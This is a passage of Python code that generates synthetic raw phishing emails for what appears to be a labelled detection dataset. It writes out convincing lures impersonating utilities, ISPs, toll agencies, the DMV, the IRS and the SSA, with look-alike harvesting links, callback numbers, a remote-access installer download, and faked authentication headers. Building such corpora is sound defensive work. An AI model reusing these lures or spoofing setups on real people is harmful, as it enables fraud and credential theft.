              '<p>We attempted to deposit your reimbursement of <b>$684.20</b> (Claim #HQ-' + digits(seed + "cl", 7)
              + ') to your linked bank account, but the deposit was returned by your bank.</p>'
              '<p>Please sign in and update your direct deposit information within 5 days. Unclaimed '
              'reimbursements are returned to your HSA and may be subject to review.</p>')
        + row(btn(click, "Update direct deposit", "#5b2c86"))
        + row('<p style="font-size:11px;color:#888;">HealthEquity, Inc. 15 W Scenic Pointe Dr, Draper, UT 84020</p>'),
        title="HealthEquity")
    plain = ("HealthEquity\n\nYour HSA reimbursement could not be deposited\n\nHi Amanda,\n\nWe attempted to "
             "deposit your reimbursement of $684.20 to your linked bank account, but the deposit was returned by "
             f"your bank.\n\nUpdate direct deposit: {click}\n")
    headers = f"""From: HealthEquity <member.services@{dom}>
Mime-Version: 1.0
Date: {fmt(when)}
Subject: Action needed: HSA reimbursement returned
To: {rcpt}
Message-ID: {sendgrid_msgid(seed)}
X-SG-EID: 
 =?us-ascii?Q?u001=2E{alnum(seed + 'eid', 40)}?=
X-Entity-ID: u001.{alnum(seed + 'ent', 22)}=="""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="fail", hfrom=dom, policy="NONE", headers=headers,
               body=alt(plain, html, bnd("sendgrid", seed)), seed=seed)
    add("phishing", "phish", "healthequity-hsa-deposit-sendgrid", raw,
        "HSA reimbursement phish (HealthEquity) from an unverified look-alike domain sent through SendGrid's shared "
        "domain (DKIM only for sendgrid.net, DMARC fails), link wrapped by SendGrid click tracking.")


# ============================================================================================
# ATTACKS: utilities, ISPs, tolls, DMV, IRS, Social Security
# ============================================================================================

@sample
def a_duke_disconnect_callback():
    seed = "a-duke"
    rcpt = "cwatkins.family@nc.rr.com"
    when = T("2025-01-30 08:06:14 -0500")
    sender = "dukeenergy.billingdept@yahoo.com"
    out = yahoo_out(sender, when, seed, app="YMailNorrin")
    html = ('<html><head></head><body><div class="yahoo-style-wrap" style="font-family:Helvetica Neue, Helvetica, '
            'Arial, sans-serif;font-size:16px;"><div dir="ltr" data-setdir="false">'
            '<b>DUKE ENERGY - FINAL DISCONNECTION NOTICE</b></div><div dir="ltr"><br></div>'
            '<div dir="ltr">Account: 9100 4471 ' + digits(seed + "acct", 4) + '</div>'
            '<div dir="ltr">Past Due Amount: <b>$418.36</b></div><div dir="ltr"><br></div>'
            '<div dir="ltr">Our records show your account is past due. A field technician has been scheduled to '
            'disconnect electric service at your address <b>today between 12:00 PM and 2:00 PM</b>.</div>'
            '<div dir="ltr"><br></div><div dir="ltr">To stop the disconnection you must call our Billing '
            'Department immediately and make a payment:</div><div dir="ltr"><br></div>'
            '<div dir="ltr"><b><span style="font-size:20px;">1-855-704-2169</span></b></div>'
            '<div dir="ltr"><br></div><div dir="ltr">Payments accepted by phone only. A reconnection fee of '
            '$150 applies once service is disconnected.</div><div dir="ltr"><br></div>'
            '<div dir="ltr">Duke Energy Customer Billing</div></div></body></html>\n')
    plain = ("DUKE ENERGY - FINAL DISCONNECTION NOTICE\n\nAccount: 9100 4471 " + digits(seed + "acct", 4) +
             "\nPast Due Amount: $418.36\n\nOur records show your account is past due. A field technician has been "
             "scheduled to disconnect electric service at your address today between 12:00 PM and 2:00 PM.\n\n"
             "To stop the disconnection you must call our Billing Department immediately and make a payment:\n\n"
             "1-855-704-2169\n\nPayments accepted by phone only. A reconnection fee of $150 applies once service is "
             "disconnected.\n\nDuke Energy Customer Billing\n")
    headers = f"""Date: {fmt(when)}
From: Duke Energy Billing <{sender}>
To: "{rcpt}" <{rcpt}>
Message-ID: {yahoo_msgid(seed, when)}
Subject: FINAL NOTICE: Service disconnection scheduled today
MIME-Version: 1.0
X-Mailer: WebService/1.1.23187 YMailNorrin"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="yahoo.com", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("yahoo", seed), enc_="quoted-printable"),
               seed=seed)
    add("phishing", "phish", "duke-energy-disconnect-callback", raw,
        "Utility disconnection scam impersonating Duke Energy from a free Yahoo account to a Spectrum mailbox: "
        "same-day shut-off threat and a phone number to pay by phone, no link.")


@sample
def a_pge_refund_firebase():
    seed = "a-pge"
    rcpt = "nguyen.thanh.sj@gmail.com"
    when = T("2024-12-10 17:12:48 -0800")
    dom = "pge-customer-refunds.com"
    out = postfix_out(f"srv1.{dom}", "89.117.72.140", f"no-reply@{dom}", rcpt, when, seed)
    out.sigs = [Sig(dom, "dkim", ["from", "to", "subject", "date", "message-id", "mime-version"], seed + "dk", when)]
    link = f"https://pge-refund-portal-3f9a1.firebaseapp.com/claim?ref=PGE{digits(seed + 'r', 8)}"
    html = shell(
        row('<table width="100%"><tr><td style="background:#0077c8;padding:14px 24px;color:#fff;font-size:22px;">'
            '<b>PG&amp;E</b></td></tr></table>', "0")
        + row('<p style="font-size:18px;"><b>You have a pending billing refund</b></p>'
              '<p>Dear Customer,</p>'
              '<p>After the annual review of your energy account, we found that you were overcharged due to a '
              'meter read error. You are eligible for a refund of <b>$187.42</b>.</p>'
              '<p>Please submit your refund request by selecting your bank and confirming your card information. '
              'Refunds are processed within 3-5 business days.</p>')
        + row(btn(link, "Claim Refund", "#fdb813", "#000000"))
        + row('<p style="font-size:11px;color:#777;">&copy;2024 Pacific Gas and Electric Company. All rights '
              'reserved. "PG&amp;E" refers to Pacific Gas and Electric Company, a subsidiary of PG&amp;E '
              'Corporation.</p>'), title="PG&E")
    plain = ("PG&E\n\nYou have a pending billing refund\n\nDear Customer,\n\nAfter the annual review of your energy "
             "account, we found that you were overcharged due to a meter read error. You are eligible for a refund "
             f"of $187.42.\n\nClaim Refund: {link}\n")
    headers = f"""From: {addr("PG&E", "no-reply@" + dom)}
To: {rcpt}
Subject: Refund Notification: $187.42 available on your PG&E account
Date: {fmt(when)}
Message-ID: <{hexs(seed + 'mid', 20)}@{dom}>
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom=dom, policy="NONE", headers=headers,
               body=alt(plain, html, bnd("x", seed)), seed=seed)
    add("phishing", "phish", "pge-overcharge-refund-firebase", raw,
        "PG&E overcharge 'refund' phish from an authenticated look-alike domain, sending the victim to a "
        "firebaseapp.com page that collects bank and card details.")


@sample
def a_xfinity_mailbox_full():
    seed = "a-xfin"
    rcpt = "ron.haskins@comcast.net"
    when = T("2025-02-26 06:48:21 -0500")
    sender = "office@stmarksmontessori.org"
    out = exim_out("box2291.bluehost.com", "50.87.144.211", sender, rcpt, when, seed, client_ip="5.181.80.127",
                   auth_user=sender)
    out.sigs = [Sig("stmarksmontessori.org", "default", ["Content-Type", "MIME-Version", "Message-ID", "Date",
                                                         "Subject", "To", "From"], seed + "dk", when)]
    link = "https://xfinity-connect-storage.web.app/?login=" + rcpt
    html = ('<html><body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222;">'
            '<table width="520" style="border:1px solid #ddd;" cellpadding="18"><tr><td>'
            '<p style="font-size:22px;margin:0;"><b>xfinity</b></p>'
            f'<p>Hello <b>{rcpt}</b>,</p>'
            '<p>Your Xfinity Connect mailbox has exceeded its storage limit (<b>9.97 GB / 10 GB</b>). You will '
            'no longer be able to send or receive new messages, and <b>34 incoming messages</b> are currently '
            'held on the server.</p>'
            '<div style="background:#e5e5e5;height:14px;width:100%;"><div style="background:#e02020;height:14px;'
            'width:99%;"></div></div>'
            f'<p><a href="{link}" style="color:#1f69ff;font-weight:bold;">Upgrade storage for free</a> and release '
            'your pending messages.</p>'
            '<p style="font-size:11px;color:#888;">Comcast Cable Communications, LLC &middot; 1701 JFK Blvd, '
            'Philadelphia, PA 19103</p></td></tr></table></body></html>\n')
    headers = f"""Date: {fmt(when)}
To: {rcpt}
From: Xfinity Connect <{sender}>
Subject: Mailbox storage full - 34 messages on hold
Message-ID: <{alnum(seed + 'mid', 43)}@stmarksmontessori.org>
User-Agent: Roundcube Webmail/1.6.9
MIME-Version: 1.0"""
    body = Leaf("text/html", html.encode(), "quoted-printable", '; charset=UTF-8')
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="stmarksmontessori.org", policy="NONE",
               headers=headers, body=body, seed=seed)
    add("phishing", "phish", "xfinity-mailbox-full-webapp", raw,
        "Classic ISP webmail harvest: 'Xfinity Connect mailbox full' sent to a comcast.net address from a hacked "
        "school's Roundcube mailbox, linking to a Firebase (web.app) login clone prefilled with the address.")


@sample
def a_spectrum_rr_deactivation():
    seed = "a-spec"
    rcpt = "pjmcallister@tampabay.rr.com"
    when = T("2025-06-03 03:27:45 +0000")
    tenant = "nvrsolutions7782"
    sender = f"admin@{tenant}.onmicrosoft.com"
    out = m365_out(sender, when, seed, custom_dkim=False, tenant=tenant)
    mh = m365_headers(seed, when)
    link = f"https://spectrum-webmail-verify.firebaseapp.com/rr/?u={base64.b64encode(rcpt.encode()).decode()}"
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
            '<body><div style="font-family:Arial,sans-serif;font-size:14px;">'
            '<table width="100%" style="max-width:540px;border:1px solid #cfd8e3;" cellpadding="0" cellspacing="0">'
            '<tr><td style="background:#003057;color:#fff;padding:14px 20px;font-size:20px;font-weight:bold;">'
            'Spectrum</td></tr><tr><td style="padding:20px;">'
            f'<p>Dear {rcpt},</p>'
            '<p>We are upgrading all Roadrunner (rr.com) email accounts to our new secure mail server. Accounts '
            'that are not verified before <b>June 5, 2025</b> will be deactivated and all saved messages and '
            'contacts will be permanently deleted.</p>'
            f'<p><a href="{link}" style="background:#0099d8;color:#fff;padding:10px 20px;text-decoration:none;">'
            'VERIFY MY EMAIL ACCOUNT</a></p>'
            '<p>Thank you for choosing Spectrum.<br>Spectrum Email Support Team</p>'
            '</td></tr></table></div></body></html>\n')
    plain = (f"Spectrum\n\nDear {rcpt},\n\nWe are upgrading all Roadrunner (rr.com) email accounts to our new "
             "secure mail server. Accounts that are not verified before June 5, 2025 will be deactivated and all "
             f"saved messages will be deleted.\n\nVERIFY MY EMAIL ACCOUNT: {link}\n\nSpectrum Email Support Team\n")
    headers = f"""From: Spectrum Email Support <{sender}>
To: {rcpt}
Subject: Roadrunner email account deactivation notice
Thread-Topic: Roadrunner email account deactivation notice
Thread-Index: {mh['thread_index']}
Date: {fmt(when)}
Message-ID: {mh['msgid']}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
x-ms-publictraffictype: Email
x-ms-office365-filtering-correlation-id: {mh['corr']}
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom=f"{tenant}.onmicrosoft.com",
               policy="NONE", headers=headers, body=alt(plain, html, bnd("outlook", seed)), seed=seed)
    add("phishing", "phish", "spectrum-roadrunner-deactivation", raw,
        "Roadrunner/Spectrum webmail 'account deactivation' phish sent from a throwaway Microsoft 365 trial tenant "
        "(onmicrosoft.com, authentication passes) to an rr.com user, linking to a firebaseapp.com login clone.")


@sample
def a_att_bill_wordpress():
    seed = "a-att"
    rcpt = "gwen.tillman@bellsouth.net"
    when = T("2024-09-17 14:20:03 -0500")
    dom = "att-billing-center.com"
    out = postfix_out(f"vmi{digits(seed + 'v', 7)}.contaboserver.net", "161.97.140.88", f"billing@{dom}", rcpt,
                      when, seed, client="unknown (unknown [127.0.0.1])")
    link = "https://www.lakeviewfamilydentalcare.com/wp-content/uploads/2024/att/signin/index.php"
    html = ('<html><head><meta charset="utf-8"></head><body style="background:#f2f2f2;margin:0;">'
            '<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;'
            'font-family:Arial,sans-serif;font-size:15px;color:#000;">'
            '<tr><td style="padding:22px 30px;"><span style="color:#009fdb;font-size:28px;font-weight:bold;">'
            'AT&amp;T</span></td></tr>'
            '<tr><td style="padding:0 30px;"><p style="font-size:20px;">We couldn&#39;t process your payment</p>'
            '<p>Your AutoPay payment of <b>$146.81</b> for account ending in <b>7302</b> was declined by your '
            'financial institution.</p><p>To avoid interruption of your wireless and internet services, please '
            'update your payment method.</p>'
            f'<p><a href="{link}" style="display:inline-block;background:#0057b8;color:#fff;padding:12px 24px;'
            'border-radius:24px;text-decoration:none;">Update payment</a></p>'
            '<p style="font-size:12px;color:#666;">&copy;2024 AT&amp;T Intellectual Property. All rights reserved.'
            '</p></td></tr></table></body></html>\n')
    plain = ("AT&T\n\nWe couldn't process your payment\n\nYour AutoPay payment of $146.81 for account ending in "
             "7302 was declined by your financial institution.\n\nTo avoid interruption of your services, please "
             f"update your payment method.\n\nUpdate payment: {link}\n")
    headers = f"""Date: {fmt(when)}
From: {addr("AT&T", "billing@" + dom)}
To: {rcpt}
Subject: Your AT&T payment was declined
Message-ID: <{hexs(seed + 'mid', 32)}@{dom}>
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="softfail", dmarc="none", hfrom=dom, policy="NONE", headers=headers,
               body=alt(plain, html, bnd("x", seed)), seed=seed)
    add("phishing", "phish", "att-payment-declined-wp", raw,
        "AT&T AutoPay-declined phish to a bellsouth.net mailbox from an unsigned look-alike domain on a Contabo VPS "
        "(SPF softfail), with the login kit hosted on a compromised dental practice's WordPress uploads folder.")


@sample
def a_ezpass_toll():
    seed = "a-ezp"
    rcpt = "anthony.russo55@verizon.net"
    when = T("2025-01-09 19:44:30 -0500")
    dom = "tollservices-notice.info"
    out = postfix_out(f"mail{num(seed + 'm', 1, 9)}.{dom}", "194.26.29.118", f"notice@{dom}", rcpt, when, seed)
    link = "https://e-zpassny.com-tollbill.icu/pay?id=" + digits(seed + "id", 8)
    html = ('<html><body style="font-family:Arial,sans-serif;font-size:15px;color:#111;">'
            '<div style="max-width:560px;margin:auto;border:1px solid #ccc;">'
            '<div style="background:#5d2a8e;color:#fff;padding:14px 20px;font-size:22px;"><b>E-ZPass</b> '
            'New York</div><div style="padding:20px;">'
            '<p><b>Unpaid Toll Notice</b></p>'
            '<p>Our records indicate that your vehicle has an outstanding toll of <b>$6.85</b> from a crossing on '
            '01/04/2025 (Verrazzano-Narrows Bridge). To avoid a late fee of <b>$50.00</b> and possible suspension '
            'of your vehicle registration, please pay the balance by <b>01/11/2025</b>.</p>'
            f'<p><a href="{link}">{link}</a></p>'
            '<p>(Please reply Y, then exit and reopen this email to activate the link if it is not clickable.)</p>'
            '<p>E-ZPass New York Customer Service Center</p></div></div></body></html>\n')
    plain = ("E-ZPass New York\n\nUnpaid Toll Notice\n\nOur records indicate that your vehicle has an outstanding "
             "toll of $6.85 from a crossing on 01/04/2025. To avoid a late fee of $50.00 and possible suspension of "
             f"your vehicle registration, please pay the balance by 01/11/2025.\n\n{link}\n\n"
             "E-ZPass New York Customer Service Center\n")
    headers = f"""From: E-ZPass NY <notice@{dom}>
To: {rcpt}
Subject: Unpaid toll notice - balance due $6.85
Date: {fmt(when)}
Message-ID: <{digits(seed + 'mid', 14)}.{hexs(seed + 'mid2', 8)}@{dom}>
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="none", hfrom=dom, policy="NONE", headers=headers,
               body=alt(plain, html, bnd("x", seed)), seed=seed)
    add("phishing", "phish", "ezpass-unpaid-toll-icu", raw,
        "E-ZPass unpaid-toll smishing template delivered by e-mail to a verizon.net (Yahoo-hosted) mailbox, with "
        "a deceptive 'e-zpassny.com-tollbill.icu' link to a card-harvesting page.")


@sample
def a_sunpass_es():
    seed = "a-sunp"
    rcpt = "yesenia.castillo.mia@gmail.com"
    when = T("2025-04-22 10:15:08 -0400")
    sender = "sunpass.cobros.fl@hotmail.com"
    out = outlookcom_out(sender, when, seed)
    mh = m365_headers(seed, when, consumer=True)
    link = "https://sunpass.com-pago-peaje.xin/es/?c=" + digits(seed + "c", 6)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<div style="font-family:Calibri,Arial,Helvetica,sans-serif;font-size:12pt;color:#000;">'
            '<p><b>SunPass &ndash; Aviso de peaje pendiente</b></p>'
            '<p>Estimado cliente:</p>'
            '<p>Su veh&iacute;culo tiene un cargo de peaje pendiente de <b>$4.35</b>. Para evitar un recargo '
            'por mora de $35.00 y la suspensi&oacute;n de su licencia de conducir, pague su saldo antes del '
            '24/04/2025.</p>'
            f'<p>Pague aqu&iacute;: <a href="{link}">{link}</a></p>'
            '<p>Gracias,<br>Centro de Servicio al Cliente de SunPass</p></div></body></html>\n')
    plain = ("SunPass - Aviso de peaje pendiente\n\nEstimado cliente:\n\nSu vehículo tiene un cargo de peaje "
             "pendiente de $4.35. Para evitar un recargo por mora de $35.00 y la suspensión de su licencia de "
             f"conducir, pague su saldo antes del 24/04/2025.\n\nPague aquí: {link}\n\nGracias,\nCentro de Servicio "
             "al Cliente de SunPass\n")
    headers = f"""From: SunPass Servicio <{sender}>
To: {rcpt}
Subject: {enc("Aviso: peaje pendiente de pago – evite recargos", "Q")}
Thread-Topic: {enc("Aviso: peaje pendiente de pago – evite recargos", "Q")}
Thread-Index: {mh['thread_index']}
X-MS-Exchange-MessageSentRepresentingType: 1
Date: {fmt(when)}
Message-ID: {mh['msgid']}
Accept-Language: es-US, en-US
Content-Language: es-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="hotmail.com", policy="NONE",
               headers=headers, body=alt(plain, html, bnd("outlook", seed)), seed=seed)
    add("phishing", "phish", "sunpass-peaje-pendiente-es", raw,
        "Spanish SunPass unpaid-toll lure from a free Hotmail account to a Miami Gmail user, linking to a "
        "'sunpass.com-pago-peaje.xin' look-alike that collects card data.")


@sample
def a_dmv_suspension():
    seed = "a-dmv"
    rcpt = "crystal.mendenhall@yahoo.com"
    when = T("2025-05-19 09:02:36 -0700")
    sender = "noreply@pacificcoastyogastudio.com"
    out = exim_out("server214.web-hosting.com", "198.54.116.105", sender, rcpt, when, seed, local=True)
    out.sigs = [Sig("pacificcoastyogastudio.com", "default", ["Content-Type", "MIME-Version", "Message-ID", "Subject",
                                                              "From", "To", "Date"], seed + "dk", when)]
    link = "https://dmv.ca.gov-notice.cc/ticket?case=CA" + digits(seed + "case", 9)
    html = ('<html><body style="font-family:Arial,sans-serif;color:#1b1b1b;">'
            '<table width="600" cellpadding="0" cellspacing="0" style="border:1px solid #bbb;">'
            '<tr><td style="background:#034a90;color:#fff;padding:12px 20px;font-size:18px;">'
            '<b>California DMV</b> &nbsp;|&nbsp; Department of Motor Vehicles</td></tr>'
            '<tr><td style="padding:20px;font-size:15px;line-height:22px;">'
            '<p><b>NOTICE OF INTENT TO SUSPEND DRIVING PRIVILEGE</b></p>'
            '<p>Case No: CA' + digits(seed + "case", 9) + '<br>Violation: Unpaid traffic citation '
            '(CVC 40508)<br>Amount Due: $92.40</p>'
            '<p>Pursuant to California Vehicle Code, your driving privilege will be suspended on '
            '<b>May 22, 2025</b> unless the outstanding citation is paid. Driving with a suspended license may '
            'result in fines, vehicle impound and points on your record.</p>'
            f'<p><a href="{link}" style="background:#fdb81e;color:#000;padding:10px 20px;text-decoration:none;'
            'font-weight:bold;">Pay Citation Online</a></p>'
            '<p style="font-size:11px;color:#666;">This is an automated message from the State of California.'
            '</p></td></tr></table></body></html>\n')
    headers = f"""To: {rcpt}
Subject: Notice of Intent to Suspend - Case CA{digits(seed + 'case', 9)}
Date: {fmt(when)}
From: California DMV <{sender}>
Message-ID: <{alnum(seed + 'mid', 43)}@pacificcoastyogastudio.com>
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    body = Leaf("text/html", html.encode(), "quoted-printable", "; charset=iso-8859-1")
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="none", hfrom="pacificcoastyogastudio.com",
               policy="NONE", headers=headers, body=body, seed=seed)
    add("phishing", "phish", "ca-dmv-suspension-notice", raw,
        "California DMV 'intent to suspend driving privilege' for an unpaid citation, mailed by PHPMailer from a "
        "hacked yoga studio site on Namecheap shared hosting, with a 'dmv.ca.gov-notice.cc' payment link.")


@sample
def a_irs_refund_pdf():
    seed = "a-irs"
    rcpt = "t.blackwell1972@hotmail.com"
    when = T("2025-03-03 13:34:50 -0500")
    sender = "mailer@tristatepavingco.com"
    out = exim_out("md-in-44.webhostbox.net", "208.91.199.224", sender, rcpt, when, seed, client_ip="45.88.90.4",
                   auth_user=sender)
    link = "https://irs.gov.refund-status-2025.com/irs/claim/?id=" + digits(seed + "id", 10)
    pdf = files.pdf(["Department of the Treasury", "Internal Revenue Service", "",
                     "NOTICE CP53E - Refund Pending Verification", "",
                     "Taxpayer ID: XXX-XX-" + digits(seed + "ssn", 4), "Tax Year: 2024",
                     "Refund Amount: $1,284.60", "",
                     "We were unable to deposit your 2024 federal tax refund to the account",
                     "on file. To receive your refund, you must confirm your identity and",
                     "direct deposit information within 7 days of this notice.", "",
                     "Click the button below to complete verification on IRS.gov."],
                    (link, (56, 520, 300, 560)), title="CP53E Notice")
    plain = ("Internal Revenue Service\n\nYou are eligible to receive a tax refund of $1,284.60. Please review the "
             "attached notice (CP53E) and complete the verification to receive your refund.\n\n"
             "IRS Refund Department\n")
    headers = f"""Date: {fmt(when)}
To: {rcpt}
From: IRS Refund Department <{sender}>
Subject: Tax Refund Notice CP53E - Action Required
Message-ID: <{alnum(seed + 'mid', 43)}@tristatepavingco.com>
X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    body = mixed(bnd("php", seed), [text(plain), attachment("application/pdf", "IRS_Notice_CP53E.pdf", pdf)])
    raw = ship(out, rcpt=rcpt, when=when, spf="neutral", dmarc="none", hfrom="tristatepavingco.com", policy="NONE",
               headers=headers, body=body, seed=seed)
    add("phishing", "phish", "irs-refund-cp53e-pdf", raw,
        "IRS tax-refund phish to a Hotmail address: a fake CP53E notice PDF whose button links to an "
        "'irs.gov.refund-status-2025.com' identity/bank harvesting page, sent from a compromised paving company's "
        "hosting account.")


@sample
def a_ssa_screenconnect():
    seed = "a-ssa"
    rcpt = "eleanor.whitcomb@gmail.com"
    when = T("2025-07-08 11:18:27 -0400")
    sender = "statements@horizonlandscaping-mn.com"
    out = m365_out(sender, when, seed)
    mh = m365_headers(seed, when)
    link = "https://www.sunrisebakerynj.com/wp-content/ssa/SSA_Statement_2025.ClientSetup.exe"
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<table width="600" cellpadding="0" cellspacing="0" style="font-family:Arial,sans-serif;color:#212121;">'
            '<tr><td style="background:#112e51;color:#fff;padding:16px 22px;"><span style="font-size:20px;">'
            '<b>Social Security Administration</b></span><br><span style="font-size:12px;">my Social Security'
            '</span></td></tr>'
            '<tr><td style="padding:22px;font-size:15px;line-height:22px;">'
            '<p><b>Your Social Security Statement is ready</b></p>'
            '<p>Your annual Social Security Statement, including your estimated retirement, disability and '
            'survivor benefits and your earnings record, is now available.</p>'
            '<p>For security, the statement can only be viewed using the SSA Secure Document Viewer. '
            'Download the viewer from the link below on a Windows computer and open the file to view your '
            'statement.</p>'
            f'<p><a href="{link}" style="background:#0071bc;color:#fff;padding:10px 20px;text-decoration:none;">'
            'Download Statement</a></p>'
            '<p style="font-size:12px;color:#5b616b;">Social Security Administration &middot; 6401 Security Blvd, '
            'Baltimore, MD 21235</p></td></tr></table></body></html>\n')
    plain = ("Social Security Administration\n\nYour Social Security Statement is ready\n\nFor security, the "
             "statement can only be viewed using the SSA Secure Document Viewer. Download the viewer on a Windows "
             f"computer and open the file to view your statement.\n\nDownload Statement: {link}\n")
    headers = f"""From: Social Security Administration <{sender}>
To: {rcpt}
Subject: Your Social Security Statement is available
Thread-Topic: Your Social Security Statement is available
Thread-Index: {mh['thread_index']}
Date: {fmt(when)}
Message-ID: {mh['msgid']}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
x-ms-publictraffictype: Email
x-ms-office365-filtering-correlation-id: {mh['corr']}
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="horizonlandscaping-mn.com",
               policy="NONE", headers=headers, body=alt(plain, html, bnd("outlook", seed)), seed=seed)
    add("phishing", "phish", "ssa-statement-screenconnect-link", raw,
        "Social Security statement lure from a compromised landscaping company's Microsoft 365 mailbox; the "
        "'viewer' link downloads a ScreenConnect remote-access installer (.ClientSetup.exe) from a hacked site.")


def icloud_out(sender: str, rcpt: str, when: datetime, seed: str) -> Out:
    """An iCloud Mail account (iPhone Mail app) sending outward."""
    n = num(seed + "icn", 10, 99)
    helo = rdns = f"qs51p00im-qukt0108{num(seed + 'ich', 1000, 2999)}.me.com"
    ip = f"17.57.155.{n}"
    hop = (f"Received: from smtpclient.apple (qs51p00im-dlb-asmtp-mailmevip.me.com [17.57.155.28])\n"
           f"\tby {helo} (Postfix) with ESMTPSA id {HEX(seed + 'icq', 11)}\n\tfor <{rcpt}>; {utc(when)}")
    sig = Sig("icloud.com", "1a1hai", ["Content-Type", "Mime-Version", "Subject", "Message-Id", "Date", "To"],
              seed + "icdk", when, c="relaxed/relaxed")
    pre = [f"X-Proofpoint-ORIG-GUID: {alnum(seed + 'pog', 32)}",
           f"X-Proofpoint-GUID: {alnum(seed + 'pog', 32)}"]
    return Out(helo, ip, rdns, sender, [hop], pre, [sig])


def apple_msgid(seed: str, dom: str = "icloud.com") -> str:
    return f"<{HEX(seed + 'a1', 8)}-{HEX(seed + 'a2', 4)}-{HEX(seed + 'a3', 4)}-{HEX(seed + 'a4', 4)}-{HEX(seed + 'a5', 12)}@{dom}>"


# ============================================================================================
# ATTACKS: callback scams, packages, prizes
# ============================================================================================

@sample
def a_studentloan_forgiveness_callback():
    seed = "a-fsa"
    rcpt = "brianna.cole.97@gmail.com"
    when = T("2024-08-13 15:09:31 -0500")
    sender = "fsa.forgiveness.dept@icloud.com"
    out = icloud_out(sender, rcpt, when, seed)
    plain = ("Dear Borrower,\n\nUnder the new Federal Student Loan Relief program your application for student "
             "loan forgiveness has been PRE-APPROVED. Based on your loan servicer records (MOHELA / Nelnet) you "
             "qualify for a reduction of up to $38,500 or a $0 monthly payment.\n\n"
             "To finalize enrollment you must speak with a Federal Enrollment Specialist before 08/16/2024. After "
             "this date your file will be closed and your loans will return to standard repayment.\n\n"
             "Call now: 1-866-597-3318 (Mon-Sat 8am-8pm CST)\n\nPlease have your FSA ID ready.\n\n"
             "Department of Education - Borrower Relief Processing Center\nFile #: ED-" + digits(seed + "f", 7)
             + "\n\nSent from my iPhone\n")
    html = ('<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head>'
            '<body dir="auto"><div dir="ltr">Dear Borrower,<br><br>Under the new Federal Student Loan Relief '
            'program your application for student loan forgiveness has been <b>PRE-APPROVED</b>. Based on your '
            'loan servicer records (MOHELA / Nelnet) you qualify for a reduction of up to $38,500 or a $0 monthly '
            'payment.<br><br>To finalize enrollment you must speak with a Federal Enrollment Specialist before '
            '08/16/2024. After this date your file will be closed and your loans will return to standard '
            'repayment.<br><br><b>Call now: 1-866-597-3318</b> (Mon-Sat 8am-8pm CST)<br><br>Please have your FSA '
            'ID ready.<br><br>Department of Education - Borrower Relief Processing Center<br>File #: ED-'
            + digits(seed + "f", 7) + '<br><br><div dir="ltr">Sent from my iPhone</div></div></body></html>\n')
    headers = f"""From: Borrower Relief Center <{sender}>
Mime-Version: 1.0 (1.0)
Date: {fmt(when)}
Subject: Your Student Loan Forgiveness Application - Final Step Required
Message-Id: {apple_msgid(seed)}
To: {rcpt}
X-Mailer: iPhone Mail (21G80)"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="icloud.com", policy="QUARANTINE",
               headers=headers, body=alt(plain, html, bnd("apple", seed), enc_="quoted-printable"), seed=seed)
    add("phishing", "phish", "student-loan-forgiveness-callback", raw,
        "Student-loan forgiveness 'pre-approved' scam from a free iCloud account: urgency and a phone number to a "
        "fake enrollment specialist who asks for the FSA ID and fees; no link.")


@sample
def a_car_warranty():
    seed = "a-warr"
    rcpt = "dale.hutchins@yahoo.com"
    when = T("2025-09-24 10:51:16 -0500")
    dom = "vehicleprotect-notices.us"
    out = postfix_out(f"smtp{num(seed + 's', 10, 40)}.{dom}", "23.94.118." + str(num(seed + "ip", 20, 240)),
                      f"bounce@{dom}", rcpt, when, seed)
    out.sigs = [Sig(dom, "s1", ["From", "To", "Subject", "Date", "List-Unsubscribe", "Message-ID"], seed + "dk",
                    when, bits=1024)]
    html = ('<html><body style="font-family:\'Times New Roman\',serif;background:#fff;">'
            '<table width="600" align="center" style="border:2px solid #000;" cellpadding="16"><tr><td>'
            '<p style="text-align:center;font-size:20px;font-weight:bold;">VEHICLE SERVICE CONTRACT<br>'
            'FINAL NOTICE</p>'
            '<p style="font-size:14px;">Vehicle: 2019 FORD F-150<br>Notice No: VSC-' + digits(seed + "n", 8) + '<br>'
            'Status: <b style="color:#b00;">COVERAGE EXPIRING</b></p>'
            '<p style="font-size:14px;">Our records indicate that your vehicle&#39;s factory warranty may have '
            'expired or is about to expire. This is your final courtesy notice to activate extended coverage '
            'before the file is closed. Repairs on engine, transmission and electrical systems can cost over '
            '$4,000.</p>'
            '<p style="text-align:center;font-size:22px;font-weight:bold;">CALL TOLL FREE: 1-844-223-6917</p>'
            '<p style="font-size:11px;">Reference your notice number when calling. This offer is not affiliated '
            'with your vehicle manufacturer or dealer.<br><a href="https://' + dom + '/remove?e='
            + hexs(seed + "e", 20) + '">Remove me from future notices</a> | 2810 N Church St #94572, Wilmington DE '
            '19802</p></td></tr></table></body></html>\n')
